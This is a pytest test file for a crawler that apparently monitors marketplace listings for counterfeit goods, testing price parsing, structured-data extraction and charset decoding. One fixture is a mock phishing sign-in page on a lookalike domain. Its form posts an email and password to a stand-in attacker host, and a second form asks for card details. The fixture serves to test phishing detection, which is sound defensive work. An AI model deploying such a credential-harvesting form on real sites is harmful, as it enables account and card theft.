import json

import pytest

from crawlers.html_text import decode_html
from crawlers.listing_extraction import extract_listing
from crawlers.page_facts import page_facts
from crawlers.prices import parse_price


@pytest.mark.parametrize(
    ("text", "tld", "amount", "currency"),
    [
        ("39,00 €", None, 39.0, "EUR"),
        ("€39.00", None, 39.0, "EUR"),
        ("1 299,00 zł", None, 1299.0, "PLN"),
        ("R$ 120,00", None, 120.0, "BRL"),
        ("$42.50", None, 42.5, "USD"),
        ("£35", None, 35.0, "GBP"),
        ("EUR 12.90", None, 12.9, "EUR"),
        ("249 kr", "se", 249.0, "SEK"),
        ("Hinta: 19,90 EUR", None, 19.9, "EUR"),
        ("ask the seller", None, None, None),
    ],
)
def test_prices_parse_with_their_currency(text, tld, amount, currency):
    assert parse_price(text, tld=tld) == (amount, currency)


def test_jsonld_product_wins_and_is_recorded_as_the_source():
    ld = {"@context": "https://schema.org", "@type": "Product", "name": "Kestrava Aalto Espresso Cup",
          "sku": "KST-CUP-001", "brand": {"@type": "Brand", "name": "Kestrava"},
          "image": ["/img/1.jpg", "https://cdn.example/2.jpg"],
          "aggregateRating": {"@type": "AggregateRating", "ratingValue": "4.5", "reviewCount": "12"},
          "offers": {"@type": "Offer", "price": "39.00", "priceCurrency": "EUR", "seller": {"@type": "Organization", "name": "Nordic Finds"}}}
    html = f"""<html><head><title>Other title | BazaarHub</title>
    <script type="application/ld+json">{json.dumps(ld)}</script></head>
    <body><h1>Visible title</h1><span class="price">€ 9.99</span></body></html>"""
    got = extract_listing(html, "https://www.bazaarhub.com/item/1")
    assert (got.title, got.price, got.currency, got.sku, got.brand, got.seller) == (
        "Kestrava Aalto Espresso Cup", 39.0, "EUR", "KST-CUP-001", "Kestrava", "Nordic Finds")
    assert got.images == ["https://www.bazaarhub.com/img/1.jpg", "https://cdn.example/2.jpg"]
    assert (got.rating, got.ratings_count, got.extraction) == (4.5, 12, "jsonld")


def test_microdata_product():
    html = """<div itemscope itemtype="https://schema.org/Product">
      <h1 itemprop="name">Kestreva espresso cup réplica</h1>
      <div itemprop="offers" itemscope itemtype="https://schema.org/Offer">
        <span itemprop="price" content="12.50">12,50 €</span><meta itemprop="priceCurrency" content="EUR"></div>
      <img itemprop="image" src="/i/7.jpg"></div>"""
    got = extract_listing(html, "https://torimarket.fi/ilmoitus/7")
    assert (got.title, got.price, got.currency, got.extraction) == ("Kestreva espresso cup réplica", 12.5, "EUR", "microdata")
    assert got.images == ["https://torimarket.fi/i/7.jpg"]


def test_visible_html_only():
    html = """<html><head><title>Myydään | Tori</title></head><body>
      <header><img src="/static/logo.png" class="logo"></header>
      <h1> Kestrava   Kissa cushion cover 1:1 </h1>
      <div class="listing-price">1 299,00 zł</div>
      <div class="seller-name">Myyjä: halpa_kauppa</div>
      <dl><dt>Ships from</dt><dd>CN</dd><dt>Quantity</dt><dd>250</dd></dl>
      <div class="gallery"><img src="/u/a.jpg"><img src="/u/b.jpg"></div></body></html>"""
    got = extract_listing(html, "https://torimarket.fi/ilmoitus/9")
    assert (got.title, got.price, got.currency, got.extraction) == ("Kestrava Kissa cushion cover 1:1", 1299.0, "PLN", "html")
    assert got.seller == "halpa_kauppa"
    assert (got.ships_from, got.quantity) == ("CN", 250)
    assert got.images == ["https://torimarket.fi/u/a.jpg", "https://torimarket.fi/u/b.jpg"]


def test_javascript_shell_is_incomplete():
    html = "<html><body><div id='app'></div><script src='/app.js'></script></body></html>"
    assert not extract_listing(html, "https://torimarket.fi/ilmoitus/3").is_complete


@pytest.mark.parametrize("html", ["", "   ", "<<<>>>", "\x00\x01binary", "<div>" * 5000, "<html><body><h1>only a title"])
def test_hostile_html_never_raises(html):
    extract_listing(html, "https://x.example/item/1")


def test_decode_trusts_valid_bytes_over_a_lying_declaration():
    text = "Käsintehty espressokuppi – 39,00 €"
    # Header says UTF-8 but the bytes are cp1252.
    assert decode_html(f"<p>{text}</p>".encode("cp1252"), "text/html; charset=utf-8")[0] == f"<p>{text}</p>"
    # Meta says Latin-1 but the bytes are UTF-8.
    body = f'<meta charset="iso-8859-1"><p>{text}</p>'.encode("utf-8")
    assert text in decode_html(body, "text/html")[0]
    # A truthful Latin-1 page stays Latin-1.
    assert decode_html("<p>Käsin</p>".encode("latin-1"), "text/html; charset=iso-8859-1")[0] == "<p>Käsin</p>"


def test_page_facts_forms_posting_elsewhere():
    html = """<html><head><title>Kestrava – Sign in</title><link rel="shortcut icon" href="/fav.png"></head><body>
      <img src="/img/kestrava-logo.png" alt="Kestrava logo">
      <form action="https://collect.evil-host.ru/p" method="POST"><input name="email"><input type="password" name="pw"></form>
      <form><input name="cardnumber" autocomplete="cc-number"><input name="cvv"></form>
      <a href="/about">about</a><a href="mailto:x@y.z">mail</a><a href="https://kestrava.com/">official</a></body></html>"""
    facts = page_facts(html, "https://kestrava-login.com/signin")
    assert facts.title == "Kestrava – Sign in"
    assert facts.favicon_url == "https://kestrava-login.com/fav.png"
    assert facts.logo_urls == ["https://kestrava-login.com/img/kestrava-logo.png"]
    login, card = facts.forms
    assert (login.action_domain, login.method, login.has_password, login.has_card) == ("evil-host.ru", "post", True, False)
    assert (card.action, card.has_card) == ("https://kestrava-login.com/signin", True)
    assert facts.links == ["https://kestrava-login.com/about", "https://kestrava.com/"]


def test_price_found_by_a_class_in_the_page_language():
    html = '<h1>Kesstrava rocket poster</h1><span class="hinta">21,99 €</span><p class="myyja">Myyjä: halpis</p>'
    got = extract_listing(html, "https://torimarket.fi/ilmoitus/1")
    assert (got.price, got.currency, got.seller) == (21.99, "EUR", "halpis")


@pytest.mark.parametrize("text, amount, currency", [
    ("€29.50 (0.00050 BTC)", 29.5, "EUR"),
    ("0.00086 BTC (≈ $54.50)", 54.5, "USD"),
    ("$11.00 (0.067 XMR)", 11.0, "USD"),
])
def test_crypto_amounts_beside_a_fiat_price_are_not_the_price(text, amount, currency):
    assert parse_price(text) == (amount, currency)


def test_title_from_a_marked_heading_or_the_document_title_without_the_site_suffix():
    marked = "<html><head><title>Cup :: DarkBazaar</title></head><body><h2 class='title'>Kestrava cup 1:1</h2>" \
             "<td class='price'>€9.00</td></body></html>"
    assert extract_listing(marked, "http://x.onion/listing/1").title == "Kestrava cup 1:1"
    bare = "<html><head><title>Kestrava cup 1:1 :: DarkBazaar</title></head><body><td class='price'>€9.00</td></body></html>"
    assert extract_listing(bare, "http://x.onion/listing/1").title == "Kestrava cup 1:1"


def test_a_page_with_an_xml_encoding_declaration_still_extracts():
    page = ('<?xml version="1.0" encoding="utf-8"?><html><head><script type="application/ld+json">'
            '{"@type": "Product", "name": "Kestrava cup", "offers": {"price": "12.50", "priceCurrency": "EUR"}}'
            '</script></head><body><h1>Kestrava cup</h1></body></html>')
    listing = extract_listing(page, "https://www.bazaarhub.com/item/1")
    assert (listing.title, listing.price, listing.currency, listing.extraction) == ("Kestrava cup", 12.5, "EUR", "jsonld")
